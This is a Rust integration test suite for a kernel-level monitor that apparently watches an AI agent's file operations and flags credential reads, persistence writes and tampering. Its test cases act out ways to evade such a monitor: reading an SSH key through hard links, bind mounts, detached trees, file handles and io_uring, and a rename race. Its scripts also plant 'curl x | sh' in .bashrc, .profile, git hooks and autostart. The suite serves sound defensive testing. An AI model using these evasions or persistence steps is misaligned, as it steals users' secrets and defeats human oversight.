//! Issue 15, file truth, on the real kernel: a key or a persistence file is known by its inode
//! (any path to it is flagged, with the rule's path beside the path used), names given through
//! the caller's own descriptors are the paths the kernel resolved, O_PATH opens are not reads,
//! and repeated reads are counted per process, inode and name. Each case is one of
//! `tests/attacks`, and each test fails on the code before it (see the notes of branch
//! `files`), but for those added later that document cases already seen by f210e45: the
//! unprivileged bind mount, the credential created during the capture, and the 10,000 reads
//! after pid reuse (its companion, a read count kept by its process after pid reuse, failed
//! there).
use std::path::{Path, PathBuf};

use integration_tests::*;
use serde_json::Value;

/// A throwaway home in /tmp (ext4 here) with a key and a shell start file, and a directory
/// beside it for the agent's own files.
struct Home {
    _dir: tempfile::TempDir,
    home: PathBuf,
    work: PathBuf,
    key: PathBuf,
}

fn home() -> Home {
    let dir = tempfile::tempdir_in("/tmp").unwrap();
    let home = dir.path().join("home");
    let work = dir.path().join("work");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::create_dir_all(&work).unwrap();
    let key = home.join(".ssh/id_rsa");
    std::fs::write(&key, "-----BEGIN OPENSSH PRIVATE KEY-----\n").unwrap();
    std::fs::write(home.join(".bashrc"), "# bashrc\n").unwrap();
    Home {
        _dir: dir,
        home,
        work,
        key,
    }
}

fn text(p: &Path) -> &str {
    p.to_str().unwrap()
}

fn entries<'a>(r: &'a Run, path: &Path, op: &str) -> Vec<&'a Value> {
    r.files_at(text(path))
        .into_iter()
        .filter(|f| f["op"] == op)
        .collect()
}

fn one<'a>(r: &'a Run, path: &Path, op: &str) -> &'a Value {
    let found = entries(r, path, op);
    assert!(
        !found.is_empty(),
        "no {op} of {}; files: {:#?}",
        path.display(),
        r.files()
    );
    found[0]
}

fn violations<'a>(r: &'a Run, kind: &str) -> Vec<&'a Value> {
    r.report["violations"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|v| v["kind"] == kind)
        .collect()
}

fn sh_in(h: &Home, script: &str) -> Run {
    let r = run_home(&h.home, &[], &["sh", "-c", script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    r
}

/// Case 01: `ln ~/.ssh/id_rsa /tmp/innocent.txt` before the capture, then `cat link key`.
#[test]
fn a_key_read_through_a_hard_link_is_a_credential_read() {
    let h = home();
    let link = h.work.join("innocent.txt");
    std::fs::hard_link(&h.key, &link).unwrap();
    let r = sh_in(
        &h,
        &format!("cat {} {} > /dev/null", text(&link), text(&h.key)),
    );
    let via_link = one(&r, &link, "read");
    assert_eq!(via_link["credential"], true, "{via_link:#}");
    assert_eq!(via_link["verified"], true);
    assert_eq!(via_link["same_inode_as"], text(&h.key));
    // The read by the key's own name is an entry of its own, not folded into the link's.
    let direct = one(&r, &h.key, "read");
    assert_eq!(direct["credential"], true);
    assert!(direct.get("same_inode_as").is_none());
    assert!(
        violations(&r, "credential").len() >= 2,
        "{:#}",
        r.report["violations"]
    );
}

/// Case 02: a bind mount of `~/.ssh` made in the agent's own mount namespace.
#[test]
fn a_key_read_through_a_bind_mount_is_a_credential_read() {
    let h = home();
    let at = h.work.join("x");
    std::fs::create_dir_all(&at).unwrap();
    let r = sh_in(
        &h,
        &format!(
            "unshare -m sh -c 'mount --bind {ssh} {at} && cat {at}/id_rsa > /dev/null'",
            ssh = text(&h.home.join(".ssh")),
            at = text(&at)
        ),
    );
    let read = one(&r, &at.join("id_rsa"), "read");
    assert_eq!(read["credential"], true, "{read:#}");
    assert_eq!(read["same_inode_as"], text(&h.key));
    assert!(!violations(&r, "credential").is_empty());
}

/// Case 03: the same by an agent that is not root (`--user nobody`, owning the home and its
/// key): `unshare -Urm` gives it a user and mount namespace of its own, where it may bind-mount.
#[test]
fn a_key_read_through_an_unprivileged_bind_mount_is_a_credential_read() {
    use std::os::unix::fs::PermissionsExt as _;
    let h = home();
    let at = h.work.join("x");
    std::fs::create_dir_all(&at).unwrap();
    let top = h.home.parent().unwrap();
    let owned = std::process::Command::new("chown")
        .args(["-R", "65534:65534"])
        .arg(top)
        .status()
        .unwrap();
    assert!(owned.success());
    std::fs::set_permissions(top, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::set_permissions(&h.key, std::fs::Permissions::from_mode(0o600)).unwrap();
    let script = format!(
        "mount --bind {ssh} {at} && cat {at}/id_rsa > /dev/null",
        ssh = text(&h.home.join(".ssh")),
        at = text(&at)
    );
    let r = run_home(
        &h.home,
        &["--user", "nobody"],
        &["unshare", "-Urm", "sh", "-c", &script],
    );
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let cat = r.exec_of(&["cat", &format!("{}/id_rsa", text(&at))]);
    assert_eq!(cat["uid"], 65534, "not root: {cat:#}");
    let read = one(&r, &at.join("id_rsa"), "read");
    assert_eq!(read["credential"], true, "{read:#}");
    assert_eq!(read["same_inode_as"], text(&h.key), "{read:#}");
    assert_eq!(read["pid"], cat["pid"], "{read:#}");
    assert!(!violations(&r, "credential").is_empty());
}

/// Case 04: `open_tree(OPEN_TREE_CLONE)` of `~/.ssh`, a read through the detached tree (whose
/// walk ends at its own root: `/id_rsa`) and one after `move_mount`.
#[test]
fn a_key_read_through_a_detached_tree_is_a_credential_read() {
    let h = home();
    let at = h.work.join("moved");
    let r = sh_in(
        &h,
        &format!(
            "unshare -m {bin} {ssh} id_rsa {at}",
            bin = env!("CARGO_BIN_EXE_attack_open_tree"),
            ssh = text(&h.home.join(".ssh")),
            at = text(&at)
        ),
    );
    let reads: Vec<&Value> = r
        .files()
        .iter()
        .filter(|f| f["op"] == "read" && f["same_inode_as"] == text(&h.key))
        .collect();
    let paths: Vec<&str> = reads.iter().filter_map(|f| f["path"].as_str()).collect();
    assert!(paths.contains(&"/id_rsa"), "{:#?}", r.files());
    assert!(paths.contains(&text(&at.join("id_rsa"))), "{paths:?}");
    assert!(reads.iter().all(|f| f["credential"] == true));
}

/// Case 06: `open_by_handle_at` with a handle made before the capture: no path is ever given.
#[test]
fn a_key_opened_by_handle_is_a_credential_read() {
    let h = home();
    let bin = env!("CARGO_BIN_EXE_attack_handle_open");
    let made = std::process::Command::new(bin)
        .args(["handle", text(&h.key)])
        .output()
        .unwrap();
    assert!(made.status.success(), "{made:?}");
    let handle = String::from_utf8(made.stdout).unwrap().trim().to_string();
    let r = run_home(&h.home, &[], &[bin, "open", text(&h.work), &handle]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let read = one(&r, &h.key, "read");
    assert_eq!(read["credential"], true, "{read:#}");
    assert!(!violations(&r, "credential").is_empty());
}

/// Issue 15's test: a credential file that does not exist when the capture starts (so it is
/// not known by its inode) is flagged by its path when it is created and when it is read.
#[test]
fn a_credential_created_during_the_capture_is_flagged_by_its_path() {
    let h = home();
    let aws = h.home.join(".aws");
    let creds = aws.join("credentials");
    let r = sh_in(
        &h,
        &format!(
            "mkdir {aws} && printf '[default]\\n' > {creds} && cat {creds} > /dev/null",
            aws = text(&aws),
            creds = text(&creds)
        ),
    );
    let made = one(&r, &creds, "create");
    assert_eq!(made["credential"], true, "{made:#}");
    let read = one(&r, &creds, "read");
    assert_eq!(
        (&read["credential"], &read["verified"]),
        (&Value::Bool(true), &Value::Bool(true)),
        "{read:#}"
    );
    assert!(
        read.get("same_inode_as").is_none(),
        "not known at start: {read:#}"
    );
    let cat = r.exec_of(&["cat", text(&creds)]);
    assert_eq!(read["pid"], cat["pid"]);
    let found = violations(&r, "credential");
    assert!(
        found.iter().any(|v| v["summary"]
            .as_str()
            .unwrap()
            .contains(&format!("read credential {}", text(&creds)))),
        "{found:#?}"
    );
}

/// Case 07: `open(key, O_PATH)`, then a read of the key and one through `/proc/self/fd/N`.
#[test]
fn an_o_path_open_is_not_a_read_and_the_reads_after_it_are_all_counted() {
    let h = home();
    let script = format!(
        "import os\nfd = os.open({key:?}, os.O_PATH)\nopen({key:?}).read()\nopen(f'/proc/self/fd/{{fd}}').read()\n",
        key = text(&h.key)
    );
    let r = run_home(&h.home, &[], &["python3", "-c", &script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let path = one(&r, &h.key, "path");
    assert_eq!(path["credential"], false, "{path:#}");
    let reads = entries(&r, &h.key, "read");
    let count: u64 = reads.iter().map(|f| f["count"].as_u64().unwrap()).sum();
    assert_eq!(count, 2, "{:#?}", r.files());
    assert!(reads.iter().all(|f| f["credential"] == true));
}

/// Case 11e: `.bashrc` appended to through a hard link made before the capture.
#[test]
fn a_shell_start_file_written_through_a_hard_link_is_persistence() {
    let h = home();
    let link = h.work.join("notes.txt");
    std::fs::hard_link(h.home.join(".bashrc"), &link).unwrap();
    let r = sh_in(&h, &format!("echo 'curl x | sh' >> {}", text(&link)));
    let write = one(&r, &link, "write");
    assert_eq!(write["persistence"], true, "{write:#}");
    assert_eq!(write["same_inode_as"], text(&h.home.join(".bashrc")));
    assert!(!violations(&r, "persistence").is_empty());
}

/// What an agent's file-writing tool does (Claude Code's Write/Edit): hold the directory by a
/// descriptor, write a temporary file and rename it over the target, both named through
/// `/proc/self/fd/N/`. The rename, the temporary file's create and a delete are the real
/// paths, and the rename over `~/.profile` is persistence.
#[test]
fn names_through_proc_self_fd_are_the_paths_the_kernel_resolved() {
    let h = home();
    let script = format!(
        "import os\n\
         d = os.open({home:?}, os.O_PATH | os.O_DIRECTORY)\n\
         p = f'/proc/self/fd/{{d}}'\n\
         with open(p + '/.profile.tmp', 'w') as f: f.write('curl x | sh\\n')\n\
         os.rename(p + '/.profile.tmp', p + '/.profile')\n\
         open(f'/dev/fd/{{d}}/scratch', 'w').close()\n\
         os.unlink(f'/dev/fd/{{d}}/scratch')\n",
        home = text(&h.home)
    );
    let r = run_home(&h.home, &[], &["python3", "-c", &script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let profile = h.home.join(".profile");
    let rename = one(&r, &h.home.join(".profile.tmp"), "rename");
    assert_eq!(rename["new_path"], text(&profile), "{rename:#}");
    assert_eq!(rename["persistence"], true);
    one(&r, &h.home.join("scratch"), "delete");
    assert!(
        r.files().iter().all(|f| !f["path"]
            .as_str()
            .unwrap_or("")
            .starts_with("/proc/self/fd")
            && !f["new_path"]
                .as_str()
                .unwrap_or("")
                .starts_with("/proc/self/fd")
            && !f["path"].as_str().unwrap_or("").starts_with("/dev/fd")),
        "{:#?}",
        r.files()
    );
    let persistence = violations(&r, "persistence");
    assert!(
        persistence
            .iter()
            .any(|v| v["summary"].as_str().unwrap_or("").contains(text(&profile))),
        "{persistence:#?}"
    );
}

/// Case 08a: one process creates, reads and deletes files in a loop; ext4 gives them one inode
/// number: each is a read of its own, not one file read many times.
#[test]
fn reads_of_files_that_reuse_an_inode_number_are_each_seen() {
    let h = home();
    let script = format!(
        "import os\n\
         inos = set()\n\
         for i in range(20):\n    \
             p = '{w}/f%02d' % i\n    \
             open(p, 'w').write('x')\n    \
             open(p).read()\n    \
             inos.add(os.stat(p).st_ino)\n    \
             os.unlink(p)\n\
         print(len(inos))\n",
        w = text(&h.work)
    );
    let r = run_home(&h.home, &[], &["python3", "-c", &script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let read: Vec<&str> = r
        .files()
        .iter()
        .filter(|f| f["op"] == "read")
        .filter_map(|f| f["path"].as_str())
        .filter(|p| p.starts_with(text(&h.work)))
        .collect();
    assert_eq!(read.len(), 20, "{read:#?}");
}

/// The pid `reuse_pid_reads` printed.
fn reused_pid(r: &Run) -> u64 {
    let out = String::from_utf8_lossy(&r.output.stdout);
    out.trim()
        .strip_prefix("pid ")
        .and_then(|p| p.parse().ok())
        .unwrap_or_else(|| panic!("no pid in {out:?}; {}", r.stderr()))
}

/// The read entries of files in `dir` by the agent's step `step` (its direct children are
/// steps "1", "2", …: two processes with one pid are told apart by them).
fn reads_in<'a>(r: &'a Run, dir: &Path, step: &str) -> Vec<&'a Value> {
    let prefix = format!("{}/", text(dir));
    r.files()
        .iter()
        .filter(|f| f["op"] == "read" && f["tool_call"] == step)
        .filter(|f| f["path"].as_str().unwrap().starts_with(&prefix))
        .collect()
}

/// Issue 15's test: 10,000 distinct files read once each by one process are all counted, and
/// a second process that gets the same pid (clone3 with `set_tid`) and reads them again has
/// its own entries. Past 10,000 plain reads a session folds further ones into one entry per
/// process and directory (`path` the directory, `folded`: how many files), so what each
/// process read is its entries of the directory's files plus its folded entry's `folded`.
#[test]
fn ten_thousand_files_read_once_each_are_all_counted_after_pid_reuse() {
    const N: u64 = 10_000;
    let dir = tempfile::tempdir_in("/tmp").unwrap();
    for i in 0..N {
        std::fs::write(dir.path().join(format!("f{i:05}")), "x").unwrap();
    }
    let bin = env!("CARGO_BIN_EXE_reuse_pid_reads");
    let r = run(&[], &[bin, text(dir.path()), "1", "1"]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    assert_eq!(
        r.report["coverage"]["lost"], 0,
        "{:#}",
        r.report["coverage"]
    );
    let pid = reused_pid(&r);
    for step in ["1", "2"] {
        let reads = reads_in(&r, dir.path(), step);
        let (mut files, mut opens) = (0, 0);
        for f in &reads {
            assert_eq!(f["pid"], pid, "{f:#}");
            let folded = f["folded"].as_u64();
            assert!(
                folded.is_some() || f["count"] == 1,
                "a file read once: {f:#}"
            );
            files += folded.unwrap_or(1);
            opens += f["count"].as_u64().unwrap();
        }
        assert_eq!(
            (files, opens),
            (N, N),
            "step {step}: {} entries",
            reads.len()
        );
    }
}

/// A process reads a file twice (the second open counted in the kernel, its total logged at
/// the end), exits, and a process with its pid reads the file once: each keeps its own count.
#[test]
fn read_counts_stay_with_their_process_after_pid_reuse() {
    let dir = tempfile::tempdir_in("/tmp").unwrap();
    let file = dir.path().join("twice");
    std::fs::write(&file, "x").unwrap();
    let bin = env!("CARGO_BIN_EXE_reuse_pid_reads");
    let r = run(&[], &[bin, text(dir.path()), "2", "1"]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let pid = reused_pid(&r);
    for (step, count) in [("1", 2), ("2", 1)] {
        let reads = reads_in(&r, dir.path(), step);
        assert_eq!(reads.len(), 1, "step {step}: {reads:#?}");
        assert_eq!(
            (&reads[0]["pid"], &reads[0]["path"], &reads[0]["count"]),
            (
                &Value::from(pid),
                &Value::from(text(&file)),
                &Value::from(count)
            ),
            "step {step}: {:#}",
            reads[0]
        );
    }
}

/// Issue 15 item 7: a hooks directory built in /tmp and moved into a repository's `.git`,
/// and a directory renamed to `~/.config/autostart`, plant every file they hold at once; a
/// symbolic link named `.git/hooks` to such a directory does the same.
#[test]
fn a_directory_moved_where_its_files_would_run_is_persistence() {
    let h = home();
    let repo = h.work.join("app");
    std::fs::create_dir_all(repo.join(".git/hooks")).unwrap();
    let linked = h.work.join("other");
    std::fs::create_dir_all(linked.join(".git")).unwrap();
    std::fs::create_dir_all(h.home.join(".config")).unwrap();
    let hooks = h.work.join("h");
    let autostart = h.work.join("as");
    let plain = h.work.join("plain");
    let script = format!(
        "set -e
         mkdir {hooks} {autostart} {plain}
         printf '#!/bin/sh\\ncurl x | sh\\n' > {hooks}/pre-commit; chmod +x {hooks}/pre-commit
         printf '[Desktop Entry]\\nExec=sh -c x\\n' > {autostart}/x.desktop
         rm -r {repo}/.git/hooks; mv {hooks} {repo}/.git/hooks
         mv {autostart} {home}/.config/autostart
         ln -s {repo}/.git/hooks {linked}/.git/hooks
         mv {plain} {work}/src",
        hooks = text(&hooks),
        autostart = text(&autostart),
        plain = text(&plain),
        repo = text(&repo),
        linked = text(&linked),
        home = text(&h.home),
        work = text(&h.work),
    );
    let r = sh_in(&h, &script);
    let renamed_to = |to: &Path| {
        r.files()
            .iter()
            .find(|f| f["op"] == "rename" && f["new_path"] == text(to))
            .unwrap_or_else(|| panic!("no rename to {}; files: {:#?}", to.display(), r.files()))
    };
    for to in [repo.join(".git/hooks"), h.home.join(".config/autostart")] {
        let f = renamed_to(&to);
        assert_eq!(f["persistence"], true, "{f:#}");
    }
    assert_eq!(renamed_to(&h.work.join("src"))["persistence"], false);
    let link = one(&r, &linked.join(".git/hooks"), "create");
    assert_eq!(link["persistence"], true, "{link:#}");
    let found = violations(&r, "persistence");
    for to in [
        repo.join(".git/hooks"),
        h.home.join(".config/autostart"),
        linked.join(".git/hooks"),
    ] {
        assert!(
            found
                .iter()
                .any(|v| v["summary"].as_str().unwrap().contains(text(&to))),
            "no finding names {}: {found:#?}",
            to.display()
        );
    }
}

/// Case (item 6): renames, links and deletes made only through io_uring, with no syscall of
/// their own (`attack_uring_fileops`): `.bashrc.new` renamed over `.bashrc`, a symbolic and a
/// hard link to the key, the hard link deleted. Each is the entry its syscall would make, with
/// the names the kernel copied at the request's submission, its flags, and `via: io_uring`
/// (its result is not seen), MKDIRAT the mkdir entry, SETXATTR and FSETXATTR the setxattr
/// entry; what is still not seen of them is named in `probe.not_watched`.
#[test]
fn renames_links_and_deletes_through_io_uring_are_entries_with_their_flags() {
    let h = home();
    std::fs::write(h.home.join(".profile"), "# profile\n").unwrap();
    let r = sh_in(
        &h,
        &format!(
            "{bin} {home}",
            bin = env!("CARGO_BIN_EXE_attack_uring_fileops"),
            home = text(&h.home)
        ),
    );
    let bashrc = h.home.join(".bashrc");
    let rename = r
        .files()
        .iter()
        .find(|f| f["op"] == "rename" && f["new_path"] == text(&bashrc))
        .unwrap_or_else(|| panic!("no rename onto .bashrc; files: {:#?}", r.files()));
    assert_eq!(
        rename["path"],
        text(&h.home.join(".bashrc.new")),
        "{rename:#}"
    );
    assert_eq!(rename["via"], "io_uring", "{rename:#}");
    assert_eq!(rename["persistence"], true, "{rename:#}");

    let sym = one(&r, &h.home.join("key-sym"), "create");
    assert_eq!(
        (
            &sym["link"],
            &sym["link_to"],
            &sym["via"],
            &sym["credential"]
        ),
        (
            &Value::from("symbolic"),
            &Value::from(text(&h.key)),
            &Value::from("io_uring"),
            &Value::from(true)
        ),
        "{sym:#}"
    );
    let hard = one(&r, &h.home.join("key-hard"), "create");
    assert_eq!(hard["link"], "hard", "{hard:#}");
    assert_eq!(hard["credential"], true, "{hard:#}");
    let gone = one(&r, &h.home.join("key-hard"), "delete");
    assert_eq!(gone["via"], "io_uring", "{gone:#}");

    let found = violations(&r, "persistence");
    assert!(
        found
            .iter()
            .any(|v| v["summary"].as_str().unwrap().contains(text(&bashrc))),
        "no persistence finding names .bashrc: {found:#?}"
    );
    // MKDIRAT: the entry mkdirat makes, with the mode asked for.
    for dir in [".config", ".config/autostart"] {
        let made = one(&r, &h.home.join(dir), "mkdir");
        assert_eq!(
            (&made["via"], &made["mode"]),
            (&Value::from("io_uring"), &Value::from("755")),
            "{made:#}"
        );
    }
    // SETXATTR and FSETXATTR: the setxattr entry, with the attribute's name (the kernel's copy).
    let profile = h.home.join(".profile");
    let set: Vec<(&Value, &Value)> = entries(&r, &profile, "setxattr")
        .iter()
        .map(|e| (&e["xattr"], &e["via"]))
        .collect();
    for name in ["user.sw", "user.swfd"] {
        assert!(
            set.contains(&(&Value::from(name), &Value::from("io_uring"))),
            "no setxattr {name} via io_uring: {set:?}"
        );
    }
    let not_watched = r.report["probe"]["not_watched"].to_string();
    assert!(
        not_watched.contains("the results of io_uring's"),
        "{not_watched}"
    );
}

/// Case 10: a thread flips rename's new-name buffer between `~/.bashrc` and a decoy (same
/// length) while 300 renames run; the program reads back by inode where each really went.
/// Before the names were read at the call's entry too, each rename was recorded with whatever
/// name the buffer held at its exit, with no word of the race. Now a rename whose names differ
/// between entry and exit names both, is judged by both, and the process gets one `tamper`
/// finding. A name flipped and flipped back between the two reads is still missed: the test
/// prints how many of the real renames over `.bashrc` either read named.
#[test]
fn a_name_rewritten_during_rename_names_both_and_is_tamper() {
    let h = home();
    let (target, decoy) = (h.home.join(".bashrc"), h.home.join(".decoyx"));
    let src = format!("{}.src", text(&target));
    // A plain rename first: names nobody rewrote are not a race.
    let plain = h.work.join("plain");
    std::fs::write(&plain, "x").unwrap();
    let r = run_home(
        &h.home,
        &["--fail-on", "tamper"],
        &[
            "sh",
            "-c",
            &format!(
                "mv {p} {p}.moved && {bin} {t} {d} 300",
                p = text(&plain),
                bin = env!("CARGO_BIN_EXE_attack_rename_race"),
                t = text(&target),
                d = text(&decoy)
            ),
        ],
    );
    assert_eq!(r.code(), Some(3), "--fail-on tamper: {}", r.stderr());
    let out = String::from_utf8_lossy(&r.output.stdout);
    let truth: Vec<&str> = out
        .lines()
        .filter_map(|l| l.strip_prefix("truth "))
        .map(|l| l.split(' ').nth(1).unwrap())
        .collect();
    assert_eq!(truth.len(), 300, "{out}");
    let log: Vec<Value> = r
        .log_text()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let renames: Vec<&Value> = log
        .iter()
        .filter(|j| j["kind"] == "file" && j["op"] == "rename" && j["path"] == src)
        .collect();
    assert_eq!(renames.len(), 300, "one record per rename");
    let moved = log
        .iter()
        .find(|j| j["op"] == "rename" && j["path"] == text(&plain))
        .expect("the plain rename");
    assert!(moved.get("raced").is_none(), "{moved:#}");
    let (mut real, mut named, mut raced) = (0, 0, 0);
    for (t, j) in truth.iter().zip(&renames) {
        raced += usize::from(j.get("raced").is_some());
        let names_target =
            j["new_path"] == text(&target) || j["raced"]["new_path"] == text(&target);
        if names_target {
            assert_eq!(j["persistence"], true, "{j:#}");
        }
        if *t == "target" {
            real += 1;
            named += usize::from(names_target);
        }
    }
    // How many of the renames the kernel really made over .bashrc the record names (at the
    // exit or the entry): not bounded, it is a sample of a buffer that changes every few
    // nanoseconds. Seen on 6.18: 77 of 122 to 268 of 269 over eight runs; 29 of 37 in the 6.1
    // guest. What every run shows, and the code before this never did, is the race itself.
    println!("real renames over .bashrc: {real}; named by the record: {named}; raced: {raced}");
    assert!(real > 0 && raced > 0, "real {real}, raced {raced}");
    let t = r.violations_of(ViolationKind::Tamper);
    assert_eq!(t.len(), 1, "one finding for the process: {t:#?}");
    let calls = if raced == 1 { "call" } else { "calls" };
    assert!(
        t[0].summary
            .contains(&format!("{raced} {calls} rewritten by another thread")),
        "{t:#?}"
    );
}
